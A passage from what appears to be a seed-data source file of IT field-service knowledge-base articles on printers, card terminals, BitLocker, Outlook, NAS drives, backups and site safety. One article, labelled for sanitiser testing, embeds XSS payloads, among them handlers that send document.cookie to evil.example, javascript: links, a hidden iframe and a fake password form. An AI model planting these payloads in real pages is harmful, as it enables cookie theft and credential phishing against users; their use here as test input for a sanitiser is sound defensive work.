<p>Self-test passes, no alarm, and the estimated runtime at current load matches the datasheet. Record the date and RBC number in the visit.</p>
<h3>Safety and disposal</h3>
<ul>
<li>Never short the terminals; remove rings and watches.</li>
<li>A swollen or leaking battery: wear gloves and eye protection, bag it, do not charge it.</li>
<li>Old batteries are hazardous waste: bring them back to the office for the battery recycling bin, or use the prepaid return label supplied with the new cartridge.</li>
</ul>
HTML
    ],
    [
        'Integrated card terminal will not pair with the till',
        'When the till shows "terminal not found" or card payments time out after an update or network change.',
        <<'TEXT',
Symptoms
- The till shows "Payment device not connected", "terminal not found" or the payment times out, although the card terminal itself shows a ready screen.
- Often starts after a router swap, a power cut, or a software update on the till or terminal.

Cause
Integrated terminals (such as the Ingenico Lane and Move series) talk to the till over the local network or USB. The till stores the terminal's IP address and port, or a pairing code. If the terminal gets a new IP address from DHCP, or the update resets the integration settings, the till looks in the wrong place.

Steps
1. Check the terminal is online to the acquirer: run a test or "health check" transaction from the terminal menu if available. If that fails, it is a network or acquirer problem, not pairing.
2. Find the terminal's IP address in its network menu (usually needs the merchant/supervisor password from the customer).
3. In the till's payment settings, check the terminal IP, port and terminal ID. Correct them.
4. Create a DHCP reservation for the terminal on the router so the address cannot change again.
5. If the till uses a pairing code, start pairing on the till, then confirm it on the terminal within the time allowed.
6. Restart the till application, not just the screen.

Verification
Run a small test sale with the customer's own card (they complete it, you never handle cards or PINs), then refund it. Check that the receipt prints with the card details.

Notes
- Never enter a customer's PIN or handle their cards. The store manager runs payments.
- Terminals are usually owned by the acquirer; hardware faults go to the acquirer's helpdesk, with the terminal serial number.
- Restart order for a whole till setup: see 'Café Lumière POS: restart order for till, printer and card terminal'.
TEXT
    ],
    [
        'Epson TM receipt printers: paper, cutter jams and error LED',
        'Loading thermal paper correctly and recovering a TM-m30 or TM-T88 from a cutter jam or flashing error light.',
        <<'HTML',
<p><b>Symptoms:</b> the receipt is not cut or is cut half-way, the paper cover will not open, the <b>Error</b> LED flashes, or receipts come out blank.</p>
<h3>Blank receipts</h3>
<p>Thermal paper prints on one side only. If receipts are blank, the roll is in backwards: the paper must come off the <em>bottom</em> of the roll towards the front on TM-m30 and TM-T88 models. Scratch the paper with a fingernail: the printable side turns grey.</p>
<h3>Cutter jam</h3>
<ol>
<li>Switch the printer off. Do not force the cover; if the cutter blade is out, the cover is locked by the blade.</li>
<li>Switch on again: the printer usually returns the blade to its home position and the Error LED stops.</li>
<li>If the cover still will not open, remove the cutter cover (the small front panel, on TM-T88 models) and turn the knob or wheel in the direction of the arrow until the blade retracts.</li>
<li>Open the paper cover, remove the jammed paper and any small torn pieces near the blade.</li>
<li>Reload the roll, leave a few centimetres of paper out, close the cover firmly until it clicks.</li>
</ol>
<h3>Error LED</h3>
<ul>
<li>Paper-out LED on: roll empty or the near-end sensor sees the roll's core. Replace the roll.</li>
<li>Error LED flashing after a jam: usually clears after removing paper and power-cycling.</li>
<li>Error LED persists after the cutter is clear: cutter motor or head fault; log a repair (check the asset's warranty date).</li>
</ul>
<h3>Verification</h3>
<p>Hold the Feed button while switching on to print a status sheet, then print a receipt from the till and check it is cut cleanly.</p>
<h3>Notes</h3>
<ul><li>Use 80 mm x 80 mm rolls (79.5 mm wide) of the quality the customer's POS supplier specifies; cheap thin paper tears at the cutter.</li>
<li>Printer offline after a power cut instead: see 'Epson TM receipt printer offline after a power cut'.</li></ul>
HTML
    ],
    [
        'Epson TM receipt printer offline after a power cut',
        'Getting a networked Epson receipt printer back online when the till cannot find it.',
        <<'TEXT',
Symptoms
After a power cut or router restart the till reports "Printer offline" or "Cannot connect to printer", while the printer itself is powered on and may have paper.

Cause
Usually the printer has received a different IP address from DHCP, or it came up before the router and fell back to its default address. Less often the network cable or the printer's network card has failed.

Steps
1. Check the LAN link light on the printer's network port and on the switch. No link: re-seat or replace the cable.
2. Print a status sheet: switch the printer off, hold the Feed button, switch on and keep holding until it prints. Some models print the network settings with a short press of the button on the back panel. Note the IP address, subnet mask and whether DHCP is on.
3. Compare with the IP address the till or POS software expects.
4. If it has changed: either set the expected address in the POS software, or better, create a DHCP reservation on the router for the printer's MAC address with the old IP, then restart the printer.
5. If the printer shows a 192.168.192.168 address it did not get DHCP. Check the router's DHCP service; or set a static IP with Epson's configuration tool (EpsonNet Config / Epson Deployment Tool) on a laptop.
6. Restart the POS application so it reconnects.

Verification
Print a test receipt from the till, then switch the printer off and on once more and print again: it must come back on the same address.

Notes
- Write the printer's IP and MAC address in the asset notes.
- Cutting or paper issues: see 'Epson TM receipt printers: paper, cutter jams and error LED'.
TEXT
    ],
    [
        'Windows: user logged on with a temporary profile',
        'Fixing "We can\'t sign in to your account" / temporary profile without losing the user\'s data.',
        <<'HTML',
<p><b>Symptom:</b> after logon the user sees "We can't sign in to your account" or "You've been signed in with a temporary profile". The desktop is empty, Outlook asks to be set up again, and files saved now are lost at logoff.</p>
<p><b>Cause:</b> Windows could not load the user's profile (NTUSER.DAT locked or damaged, disk errors, an abrupt power off, or antivirus locking the file at logon). It then creates a temporary profile and marks the registry entry with <code>.bak</code>.</p>
<h3>Steps</h3>
<ol>
<li>Ask the user to save nothing and log off. Log on as a local or domain administrator.</li>
<li>Back up <code>C:\Users\username</code> to the NAS or a USB disk before changing anything.</li>
<li>Find the user's SID: <code>wmic useraccount where name='username' get sid</code> (or <code>whoami /user</code> as that user).</li>
<li>Open <code>regedit</code> at <code>HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList</code>.</li>
<li>If there are two keys, <code>SID</code> and <code>SID.bak</code>: rename the one without .bak to <code>SID.old</code>, then remove <code>.bak</code> from the other.</li>
<li>In the correct key check that <code>ProfileImagePath</code> points to the right folder, set <code>State</code> to 0 and <code>RefCount</code> to 0 (create them as DWORD if missing).</li>
<li>Run <code>chkdsk C: /scan</code> and <code>sfc /scannow</code> to look for disk or system file damage.</li>
<li>Restart and let the user log on.</li>
</ol>
<h3>Verification</h3>
<p>The user sees their own desktop, documents and browser favourites, and Outlook opens without asking for setup. Log off and on once more.</p>
<h3>If the profile is truly corrupt</h3>
<p>Rename the profile folder, delete the ProfileList key, let Windows create a new profile, then copy Desktop, Documents, Pictures, browser data and signatures back. Leave the old folder in place for a month. Outlook may need its data file rebuilt; see 'Outlook: rebuilding a corrupt or oversized OST file'.</p>
HTML
    ],
    [
        'BitLocker recovery key prompt on site',
        'What to do when a laptop asks for its 48-digit BitLocker recovery key, and how to stop it happening again.',
        <<'TEXT',
Symptoms
At power-on the laptop shows a blue "BitLocker recovery" screen asking for the 48-digit recovery key, with a Key ID.

Common causes
- A BIOS/UEFI or firmware update applied without suspending BitLocker.
- Changes to boot order, Secure Boot or TPM settings; a reset of the TPM.
- Booting from a USB stick or docking station with a network boot option.
- A new motherboard after a warranty repair.

Finding the key
1. Note the first 8 characters of the Key ID shown on screen.
2. Entra ID joined device: Microsoft Entra admin centre or Intune > Devices > the device > BitLocker keys. The supervisor or customer's admin can look this up.
3. On-premises Active Directory: the computer object's BitLocker Recovery tab in AD Users and Computers (needs the feature installed).
4. Personal Microsoft account: aka.ms/myrecoverykey, signed in as the owner.
5. Printed copy or our password manager: check the customer's documentation entry.
Match the Key ID before typing the key; a different key will not work.

After unlocking
1. Let Windows boot fully, then open an elevated command prompt.
2. Run: manage-bde -status C:   and check protection is on.
3. If you are about to update firmware, suspend first: manage-bde -protectors -disable C: -RebootCount 1
4. Confirm the key is backed up to Entra ID or AD (manage-bde -protectors -get C: shows the numerical password ID).

Verification
Restart twice. The laptop must boot to the login screen without a recovery prompt.

Notes
- Never write a recovery key in the visit notes or an email. Refer to where it is stored.
- If no key can be found anywhere, the data cannot be recovered. Stop, inform the supervisor and the customer before reinstalling.
- New laptops: see 'New laptop handover checklist'.
TEXT
    ],
    [
        'Outlook: rebuilding a corrupt or oversized OST file',
        'Fixing Outlook that hangs, crashes or fails to sync by letting it rebuild its local cache.',
        <<'HTML',
<p><b>Symptoms:</b> Outlook hangs at "Processing", crashes on start, shows folders that do not match Outlook on the web, or warns that the data file has reached its maximum size. Search may also stop finding recent mail.</p>
<p><b>Cause:</b> Outlook keeps a local copy of the Exchange / Microsoft 365 mailbox in an <code>.ost</code> file. It can become corrupt after crashes or a full disk, or grow very large on mailboxes of many gigabytes. The server copy is the master, so the OST can safely be rebuilt.</p>
<h3>Before you start</h3>
<ul>
<li>Check the mailbox in Outlook on the web: if all mail is there, nothing is lost by rebuilding.</li>
<li>Check for <b>PST</b> files (local archives) in the account settings. Those are <em>not</em> on the server: never delete them.</li>
<li>Warn the user that a large mailbox takes a while to download again.</li>
</ul>
<h3>Steps</h3>
<ol>
<li>Close Outlook and check Task Manager that <code>OUTLOOK.EXE</code> has exited.</li>
<li>Open <code>%LOCALAPPDATA%\Microsoft\Outlook</code>.</li>
<li>Rename the OST (for example <code>user@customer.example.ost</code> to <code>.ost.old</code>).</li>
<li>Start Outlook. It creates a new OST and downloads the mailbox.</li>
<li>For very large mailboxes, set <b>File &gt; Account Settings &gt; Change &gt; Download email for the past</b> to 1 year instead of All.</li>
<li>When it has finished syncing, delete the old OST to free disk space.</li>
</ol>
<h3>Verification</h3>
<p>Compare the item count of the Inbox and Sent Items with Outlook on the web, send and receive a test message, and search for a recent email.</p>
<h3>Notes</h3>
<ul><li>If a new OST corrupts again quickly, check the disk (<code>chkdsk</code>) and disable Outlook add-ins one by one.</li>
<li>Password prompts are a different issue: see 'Outlook keeps asking for a password'.</li></ul>
HTML
    ],
    [
        'Outlook keeps asking for a password',
        'Repeated Microsoft 365 credential prompts in Outlook: the usual causes and the order to check them.',
        <<'TEXT',
Symptoms
Outlook shows the Microsoft sign-in window or an old-style "Enter password" box again and again, even after the correct password is entered. Mail may still arrive between prompts.

Likely causes
- Stale saved credentials in Windows Credential Manager after a password change.
- The Web Account Manager (WAM) token cache is broken.
- The device is not fully registered in Entra ID or the sign-in is blocked by a Conditional Access policy.
- An additional mailbox or shared calendar the user no longer has rights to.
- Old Outlook version trying basic authentication.

Steps
1. Check the user can sign in to Outlook on the web with the same account. If not, fix the account first (password, MFA, licence).
2. Close Outlook. Open Credential Manager > Windows Credentials and remove entries starting with MicrosoftOffice16 and any entries for outlook.office365.com.
3. In Settings > Accounts > Access work or school, check the account is connected. Disconnect and reconnect it if it shows an error.
4. Start Outlook, sign in once, tick "Remember me" if offered.
5. Remove shared mailboxes or calendars the user has lost access to (File > Account Settings > Change > More Settings > Advanced).
6. Install Office updates (File > Office Account > Update Options > Update Now).
7. If still failing, create a new Outlook profile in Control Panel > Mail > Show Profiles, and set it as default.

Verification
Close and reopen Outlook twice; restart the PC once. No prompt should appear, and send/receive must work.

Notes
- If a new profile is needed and the mailbox is large, expect a long first sync; see 'Outlook: rebuilding a corrupt or oversized OST file'.
- Check the sign-in logs in Entra ID (ask the supervisor) if you suspect Conditional Access.
TEXT
    ],
    [
        'FortiClient VPN: common connection errors',
        'What the usual FortiClient error codes mean and how to get a remote worker connected again.',
        <<'HTML',
<p>Our small-office customers with FortiGate firewalls use FortiClient (VPN-only or EMS-managed) for remote access. Start by finding out <em>where</em> the user is: a hotel or guest network often blocks VPN.</p>
<table>
<tr><th>Message</th><th>Likely cause</th><th>What to do</th></tr>
<tr><td>"Credential or SSL VPN configuration is wrong" <code>(-7200)</code></td><td>Wrong username/password, locked or expired account, user not in the VPN group</td><td>Test the credentials elsewhere; check the user group on the FortiGate; reset the password if expired</td></tr>
<tr><td>"Unable to establish the VPN connection. The VPN server may be unreachable" <code>(-14)</code></td><td>Wrong server address or port, firewall/ISP blocking, FortiGate not listening</td><td>Check the remote gateway and port in the profile; try from a phone hotspot</td></tr>
<tr><td>Hangs at 98%</td><td>Virtual adapter or DNS problem on the PC, often after Windows updates</td><td>Repair or reinstall FortiClient; check the Fortinet virtual adapter is enabled</td></tr>
<tr><td>Certificate warning</td><td>Server certificate expired or self-signed</td><td>Do not tell users to click through; renew the certificate on the FortiGate</td></tr>
</table>
<h3>Steps</h3>
<ol>
<li>Confirm the client version and the profile (remote gateway, port, SSL or IPsec).</li>
<li>Check the FortiGate: <b>Log &amp; Report &gt; Events &gt; VPN</b> shows failed logins with the reason.</li>
<li>Test from a different network (your phone's hotspot) to rule out the user's location.</li>
<li>If only one PC fails, reinstall FortiClient with the version matching the customer's firmware.</li>
</ol>
<h3>Verification</h3>
<p>The user connects, reaches a file share or the practice system by name, and disconnects cleanly. Check the tunnel appears in the FortiGate's VPN monitor.</p>
<h3>Notes</h3>
<ul><li>Recent FortiOS releases are phasing out SSL-VPN tunnel mode in favour of IPsec (dial-up) VPN. Read the release notes before upgrading a customer's firmware, and plan the client migration.</li>
<li>Check the firewall's support contract date on the asset: no contract means no firmware updates.</li></ul>
HTML
    ],
    [
        'Docking station: external monitors stay blank',
        'Laptop docks (Dell WD19 series and USB-C docks) where the monitors do not wake or only one works.',
        <<'TEXT',
Symptoms
- The laptop charges on the dock but one or both external monitors show "No signal".
- Monitors work after a restart but not after sleep, or only when the laptop lid is open.
- Keyboard and mouse on the dock also stop working from time to time.

Causes
- Dock firmware or laptop BIOS out of date (the most common cause on Dell WD19/WD19S docks).
- The dock's power adapter is too small for the laptop and the monitors.
- Cable or port: USB-C cable replaced with a charge-only cable, or monitors on the wrong outputs.
- The laptop's USB-C port supports fewer displays than the user expects (DisplayPort MST limits).

Steps
1. Check the dock's power adapter wattage matches the dock model (130 W for the WD19S 130W) and that it is the original cable.
2. Disconnect everything, hold the dock's power button for a few seconds with power removed (or unplug power for 30 seconds) to reset it.
3. Run Dell Command Update (or the vendor's update tool) on the laptop: install BIOS, Thunderbolt/USB-C, graphics and dock firmware updates. The dock must be connected during the dock firmware update. Suspend BitLocker before a BIOS update; see 'BitLocker recovery key prompt on site'.
4. Connect one monitor at a time, directly to a DisplayPort or HDMI output on the dock, with a known good cable.
5. In Windows, press Win+P and choose Extend; check Settings > System > Display for detected monitors.
6. Check power settings: disable "Allow the computer to turn off this device to save power" on the USB root hubs in Device Manager if the dock drops after sleep.

Verification
Both monitors work after a cold start, after sleep and resume, and after undocking and docking again.

Notes
- Record dock firmware and BIOS versions in the visit.
- If a dock fails again after updates, swap it and send the faulty one back; see 'Parts return (RMA) process'.
TEXT
    ],
    [
        'Synology NAS: degraded storage pool and drive replacement',
        'Replacing a failed drive in a Synology DiskStation and repairing the storage pool without losing data.',
        <<'HTML',
<p><b>Symptoms:</b> the NAS beeps, the STATUS LED flashes orange, DSM reports the storage pool as <b>Degraded</b>, or a drive shows <b>Crashed</b> / <b>Failing</b>.</p>
<p><b>Meaning:</b> with SHR-1, RAID 1 or RAID 5 the pool survives one failed drive, but has no redundancy left. A second failure before repair loses the data. Treat it as urgent.</p>
<h3>Before touching the hardware</h3>
<ol>
<li>Silence the beep in DSM (Control Panel &gt; Hardware &amp; Power), not by pulling drives.</li>
<li>Check the last successful backup in Hyper Backup or the customer's backup tool. If there is no recent backup, run one to another target first, starting with the most important shares.</li>
<li>In <b>Storage Manager &gt; HDD/SSD</b>, note the failed drive's bay number and serial number.</li>
</ol>
<h3>Replacing the drive</h3>
<ol>
<li>Get a replacement of the same or larger capacity, ideally from the NAS compatibility list.</li>
<li>Models with hot-swap trays (DS220+, DS923+) can be changed while running. Pull only the tray with the matching bay number and serial, double-check before pulling.</li>
<li>Fit the new drive into the tray and insert it.</li>
<li>In Storage Manager select the pool, choose <b>Repair</b>, and select the new drive.</li>
<li>Repair (rebuild) can take many hours. The NAS stays usable but slower.</li>
</ol>
<h3>Verification</h3>
<p>The pool status returns to <b>Healthy</b>. Schedule an S.M.A.R.T. extended test for the other drives and check that notifications (email) are configured so the next failure is reported.</p>
<h3>Notes</h3>
<ul><li>Drives bought together fail together: if the others have similar power-on hours, recommend replacing them in turn.</li>
<li>RAID is not a backup; see 'Backup verification: the monthly restore test'.</li></ul>
HTML
    ],
    [
        'Backup verification: the monthly restore test',
        'How to prove a customer\'s backup actually works by restoring something, and what to record.',
        <<'TEXT',
Why
A backup job that says "Succeeded" only proves the software ran. We only know a backup works when we have restored from it. Most customers are contracted for a monthly check.

What to check
1. Job status: look at the last 30 days of jobs (Hyper Backup, Veeam, Microsoft 365 backup or whatever the customer uses). Note any failures or warnings and their cause.
2. Coverage: compare the backup selection with what actually matters today. New shares, a new practice database, or a new user's OneDrive are often missing.
3. Off-site copy: at least one copy must be off site or in the cloud, and ideally one that ransomware cannot delete (immutable or offline). Remember 3-2-1: three copies, two media, one off site.
4. Integrity check: run the backup tool's integrity check (Hyper Backup: "Check backup integrity") if it is not already scheduled.

Restore test
1. Pick a random file or folder the customer changed recently, plus one older item.
2. Restore it to an alternative location (never over the original), for example a Restore-Test folder.
3. Open the restored files. Check they are readable and are the right version.
4. Once a quarter, restore a whole system or database to a test location if the contract includes it.
5. Delete the test restore afterwards.

Record in the visit
- Date, backup set, what was restored, from which date, how long it took, result.
- Any gaps found and what you recommended.

Notes
- If the restore fails, tell the supervisor the same day. It is a risk for the customer, not a minor fault.
- For a degraded NAS, check the backup before anything else; see 'Synology NAS: degraded storage pool and drive replacement'.
TEXT
    ],
    [
        'Network cable testing and RJ45 termination',
        'Testing a faulty network point and terminating Cat5e/Cat6 to T568B correctly.',
        <<'HTML',
<p><b>Symptoms:</b> a PC links at 100 Mbit/s instead of 1 Gbit/s, the link drops when someone moves a chair, a PoE device reboots, or a wall point is completely dead.</p>
<h3>Testing</h3>
<ol>
<li>Identify both ends: wall port number and patch-panel port. Use a tone generator and probe if the labels are missing.</li>
<li>Disconnect the switch end. Never connect a tester to a live PoE port unless the tester is rated for it.</li>
<li>Run a wiremap test with the remote unit at the other end. Look for opens, shorts, reversed or split pairs. A <em>split pair</em> passes a simple continuity test but causes errors at speed.</li>
<li>Check the length: a permanent link should be 90 m or less, and 100 m in total including patch leads.</li>
<li>If the site needs proof (new installation, disputes), use a certifier rather than a verifier and save the report.</li>
</ol>
<h3>T568B colour order</h3>
<table>
<tr><th>Pin</th><th>Colour</th></tr>
<tr><td>1</td><td>White/orange</td></tr><tr><td>2</td><td>Orange</td></tr>
<tr><td>3</td><td>White/green</td></tr><tr><td>4</td><td>Blue</td></tr>
<tr><td>5</td><td>White/blue</td></tr><tr><td>6</td><td>Green</td></tr>
<tr><td>7</td><td>White/brown</td></tr><tr><td>8</td><td>Brown</td></tr>
</table>
<h3>Re-terminating</h3>
<ul>
<li>Untwist no more than 13 mm of each pair.</li>
<li>Keystones: punch down with the correct tool, trim the ends, and keep the sheath close to the jack.</li>
<li>Use both ends T568B on our sites; mixing standards creates a crossover.</li>
<li>Replace damaged patch leads rather than re-crimping them.</li>
</ul>
<h3>Verification</h3>
<p>Retest the link, then connect the device and check it links at the expected speed (1 Gbit/s full duplex) with no errors on the switch port counters. Label both ends.</p>
<p>Safety: ceiling voids may contain asbestos or live cabling; see 'Site safety checklist before you start work'.</p>
HTML
    ],
    [
        'Site safety checklist before you start work',
        'The checks every technician does on arrival, before opening a cabinet, climbing a ladder or lifting a ceiling tile.',
        <<'TEXT',
On arrival
1. Sign in at reception and wear your FieldDesk ID badge where it can be seen.
2. Ask for the site contact named on the visit, and ask whether there are any site rules or hazards today (works in progress, fire alarm tests, restricted areas).
3. Note the fire exits and assembly point on your way in.
4. Lone working: if you are alone in a building or out of hours, tell the office when you arrive and when you leave.

Before work
- Electrical: never open power supplies, UPS internals or wall sockets. Check cables for damage before plugging in. Ask before switching off anything you did not install.
- Ladders: use a stepladder only for short work, on a firm level floor, with three points of contact. No ladders from the van that are damaged or unchecked.
- Ceiling voids and risers: ask for the asbestos register before lifting ceiling tiles or drilling in buildings built before 2000. If in doubt, stop.
- Lifting: UPS units, servers and MFP trays are heavy. Use two people or a trolley.
- Server cupboards: keep doors open for ventilation, watch for trailing cables.

While working
- Keep walkways clear; put a sign up if you leave a cabinet open or cables across a floor.
- In clinical areas, schools and care settings follow the site's rules for infection control and safeguarding; see 'Working in clinical areas: infection control and patient privacy'.
- Do not use customer equipment (ladders, tools) unless they offer it and it is in good condition.

Report
Record any hazard, near miss or injury in the visit notes and tell the supervisor the same day. If the work is unsafe to complete, stop and reschedule: nobody will blame you for that.
TEXT
    ],
    [
        'Working in clinical areas: infection control and patient privacy',
        'How to behave and work safely at GP surgeries and dental clinics: hygiene, confidentiality and timing.',
        <<'HTML',
<p>GP surgeries and dental clinics are busy, clinical environments with confidential information on every screen. The customer judges us as much by how we behave as by the fix.</p>
<h3>Before you go in</h3>
<ul>
<li>Arrange with the practice manager which rooms you need and when. Never walk into a consulting or treatment room without being invited, even if it looks empty.</li>
<li>Visits to treatment rooms are best at the start of the day, lunchtime or after the last patient.</li>
<li>Do not attend if you have vomiting, diarrhoea or a fever.</li>
</ul>
<h3>Infection control</h3>
<ol>
<li>Clean your hands with the alcohol gel on entering and leaving each clinical room.</li>
<li>Do not put your bag or tools on clinical work surfaces or the patient chair; use the floor near the desk or a trolley.</li>
<li>Wipe keyboards, mice and phones you have used with the wipes provided by the practice.</li>
<li>In dental surgeries, stay out of the area around the dental chair while it is in use and keep away from the X-ray unit during exposures.</li>
</ol>
<h3>Patient privacy</h3>
<ul>
<li>If a screen shows patient data, ask the user to close or lock it before you take over. Do not read, photograph or copy patient information.</li>
<li>Never take screenshots of the clinical system for your notes; describe the error message in words.</li>
<li>If you overhear or see patient information, it stays there. Do not mention it in visit notes.</li>
<li>Lock any PC you leave unattended (Windows key + L).</li>
</ul>
<h3>Before you leave</h3>
<p>Check the clinical system and printing work in each room you touched, and tell the practice manager what you changed. See 'Customer sign-off etiquette'.</p>
HTML
    ],
    [
        'Customer sign-off etiquette',
        'How to close a visit with the customer so they know what was done and are happy to sign.',
        <<'TEXT',
Why it matters
The sign-off is the customer's last impression of the visit, and the signed visit is what the office invoices. A rushed sign-off leads to disputes and repeat calls.

Before asking for a signature
1. Test the fix together with the person who reported it, using their normal work (print their letter, take a card payment, open their file), not just a test page.
2. Tidy up: packaging, old parts, cable offcuts, ceiling tiles back in place, chairs and desks as you found them.
3. Make sure your visit notes are written (see 'Writing useful visit notes') so you can read back what you did.

The conversation
- Explain in plain English what was wrong, what you did and whether anything might happen again. Avoid jargon and blame ("the last engineer", "your cheap paper").
- Be honest about anything not finished: parts on order, a follow-up visit needed, something outside our contract. Say who will contact them and when.
- Mention any recommendation once, briefly (for example "the UPS battery is four years old, we'd suggest replacing it this year"). Do not sell on site.
- Ask: "Is there anything else about this issue before I go?" Small add-ons can be done if they take a few minutes; otherwise log them as a new request.

Signature
- Ask the contact named on the visit, or a manager. Do not ask a patient, guest or student.
- Record the signer's name as they give it. If nobody can sign, note who you spoke to and mark the visit accordingly; do not sign on their behalf.

After leaving
Update the visit status straight away. If the customer was unhappy, tell the supervisor before the customer does.
TEXT
    ],
    [
        'Parts return (RMA) process',
        'How to return faulty, unused or swapped parts to the office or the vendor so we get credited.',
        <<'HTML',
<p>Every part we fit or remove must be accounted for. Parts not returned in time are charged to us, not the customer.</p>
<h3>Faulty part under vendor warranty</h3>
<ol>
<li>Check the asset's warranty date. If in warranty, the supervisor opens a vendor case and gets an <b>RMA number</b> <em>before</em> the part is swapped, where possible.</li>
<li>Record in the visit: the RMA number, the faulty part's serial number and the new part's serial number.</li>
<li>Put the faulty part in the packaging of the new part (the vendor expects it), with the RMA number written on the outside of the box.</li>
<li>Add the returns label the vendor sent, or hand it to the office for collection. Most vendors require the part back within 10 to 15 working days.</li>
</ol>
<h3>Part from our stock</h3>
<ul>
<li>Note the part and quantity in the visit's Parts Used field so it can be invoiced.</li>
<li>Unused parts go back to the stock shelf at the office with the visit number on a sticky note.</li>
</ul>
<h3>Dead on arrival (DOA)</h3>
<p>If a new part does not work out of the box, do not fit a second one from the same batch without telling the supervisor. Label the box <b>DOA</b>, keep all packaging and note it in the visit.</p>
<h3>Never return</h3>
<ul>
<li>Drives or anything that stores customer data. Drives stay with the customer or are destroyed with a certificate; vendors offer "keep your drive" options.</li>
<li>Swollen batteries by courier: they need special handling, ask the office.</li>
</ul>
<p>When done, tell the customer what is being returned; see 'Customer sign-off etiquette'.</p>
HTML
    ],
    [
        'Writing useful visit notes',
        'What to put in internal notes and in replies to the customer so that the next person can pick up the job.',
        <<'TEXT',
Two kinds of note
- Internal comment: for FieldDesk staff only. Technical details, findings, suspicions, parts, time. The customer never sees it.
- Reply to the customer: is emailed to the requestor. Plain language, polite, no internal jargon, no prices unless agreed with the office.
Check which one you are writing before you send it.

A good internal note answers
1. What did you find? Include exact error codes, firmware versions, IP addresses, page counts and serial numbers.
2. What did you do, in order? "Replaced fuser (230 V kit from stock), cleared event log, printed 100 duplex pages: no jams."
3. What is the state now? Fixed, workaround, or still broken.
4. What is next? Parts ordered (with RMA or order number), follow-up visit, or who needs to decide something.
5. Time taken, recorded against the note.

Avoid
- Passwords, recovery keys, patient or client data in any note. Refer to where the secret is stored.
- Blame and opinions about the customer's staff.
- "Fixed" with nothing else. The next technician will be at the same printer in three weeks and needs to know what was tried.

Replies to the customer
- Start with the outcome: "Your reception printer is working again."
- One or two sentences on the cause and what we did.
- Anything they need to do (keep paper sealed, restart the till in a given order).
- Who to contact if it happens again.

Notes
Write notes on site while it is fresh. They sync when you are back online. For the closing conversation see 'Customer sign-off etiquette'.
TEXT
    ],
    [
        'Imported vendor note: Zebra label printer calibration',
        'Media calibration for Zebra desktop and industrial label printers (imported from a vendor portal; contains unsafe HTML for sanitiser testing).',
        <<'HTML' . _deep_footer(),
<h3>Calibrating Zebra label printers</h3>
<p><em>Imported from a vendor partner portal. The original page contained tracking and script code; FieldDesk must display only the text.</em></p>
<script>alert(1)</script>
<p onmouseover="alert('hover')"><b>Symptoms:</b> the printer skips a label, prints across the gap between labels, flashes the status light after loading a new roll, or reports "Media out" with labels loaded.</p>
<img src="http://evil.example/track.png" onerror="fetch('http://evil.example/steal?c='+document.cookie)" width="1" height="1">
<p><b>Cause:</b> the media sensor has not learned the new label length, gap or black mark, usually after changing to a different label size or type.</p>
<ol>
<li>Load the labels with the roll correctly seated and the labels under the media guides; the sensor must be positioned over the gap (movable sensors on ZT400 series).</li>
<li>Link-OS desktop models (ZD421, ZD621): with the printer ready, press and hold <b>PAUSE</b> and <b>CANCEL</b> together for 2 seconds to run SmartCal. The printer feeds a few labels and stops at the top of the next one.</li>
<li>Industrial models (ZT411): run <b>Media &gt; Calibration</b> from the front panel, or use the printer's web page.</li>
<li>From a PC, sending the ZPL command <code>~JC</code> starts the same calibration; <code>^XA^JUS^XZ</code> saves the settings.</li>
<li>Print a configuration label and check the label length matches the roll.</li>
</ol>
<p>For the full procedure see the <a href="javascript:alert(document.domain)">vendor calibration guide (PDF)</a> or our own article <a href="#" onclick="document.location='http://evil.example/?'+document.cookie">Zebra ZT411: faded print, ribbon and print head care</a>.</p>
<iframe src="http://evil.example/frame.html" width="600" height="400" style="border:0"></iframe>
<div style="background-image:url(javascript:alert(3))">Verification: print ten labels from the customer's shipping software; each must start at the top of a label with no skipped labels.</div>
<form action="http://evil.example/login" method="post"><input name="password" type="password" placeholder="Re-enter your RT password"><button>Continue</button></form>
<svg onload="alert(4)"><circle r="1"></circle></svg>
<p>Note: always calibrate after changing label stock, and record the label size in the asset notes.</p>
HTML
    ],
    [
        'Zebra ZT411: faded print, ribbon and print head care',
        'Fixing light or patchy barcodes on Zebra industrial printers: darkness, speed, ribbon and head cleaning.',
        <<'TEXT',
Symptoms
- Labels print faded, patchy, or with white vertical lines through the barcode.
- Scanners at packing or goods-in fail to read barcodes that look fine to the eye.
- "Ribbon out" with a ribbon loaded, or the ribbon wrinkles.

Causes
- Darkness too low or print speed too high for the label and ribbon combination.
- Dirty print head: adhesive and dust build up after every roll.
- Wrong ribbon type for the labels (wax ribbon on synthetic labels), or the ribbon loaded with the ink side away from the label.
- Worn platen roller or print head (a vertical white line that never cleans off means dead head elements).

Steps
1. Print a configuration label (hold FEED/PAUSE per the model's manual, or from the menu) and note darkness, speed and print method (thermal transfer or direct thermal).
2. Clean the print head: power off, open the head, wipe along the dark line of the head with a Zebra cleaning pen or a lint-free swab moistened with 99 per cent isopropyl alcohol. Let it dry for a minute. Clean the platen roller too.
3. Check the ribbon: the inked side must face the labels. Rub the ribbon with a fingernail on a label; the side that leaves a mark is the ink side.
4. Raise darkness in small steps (1 or 2 at a time) and lower the print speed, printing a test barcode after each change. Too much darkness makes barcodes bleed and fail too.
5. Check the ribbon type matches the labels (wax, wax/resin or resin) with the customer's label supplier.
6. If a white line persists after cleaning, the head is damaged: order a head (check warranty first; heads are often excluded as wear parts).

Verification
Print ten labels from the customer's system and scan them with their own scanner at normal distance. All must read first time.

Notes
- Clean the head with every new ribbon roll; show the customer how.
- Labels skipping or printing over the gap is calibration; see 'Imported vendor note: Zebra label printer calibration'.
TEXT
    ],
    [
        'Zebra labels: umlauts and ß print as question marks',
        'Fixing Zebra ZPL labels where "Müller" prints as "M?ller" or "Straße" as "Stra?e": set the printer to UTF-8 with ^CI28.',
        <<'HTML',
<p><b>Symptoms:</b> shipping or product labels print <code>M?ller</code>, <code>MÃ¼ller</code> or a blank instead of <b>Müller</b>; <b>Straße</b> becomes <code>Stra?e</code>; accented names such as <b>Lumière</b> or <b>Désirée</b> lose their accents. Plain ASCII text is fine.</p>
<p><b>Cause:</b> the application sends UTF-8 text, but the printer interprets it in its default code page, or the selected font does not contain the characters. "Ã¼" is the tell-tale sign of UTF-8 bytes read as Latin-1; "?" means the characters were lost before reaching the printer (usually the driver or a template saved in the wrong encoding).</p>
<h3>Steps</h3>
<ol>
<li>Print a configuration label and note the firmware version (Link-OS printers such as the ZD421 and ZT411 support UTF-8).</li>
<li>Check how the software prints: via the Zebra Windows driver (ZDesigner), or by sending raw ZPL (typical for shipping and ERP systems).</li>
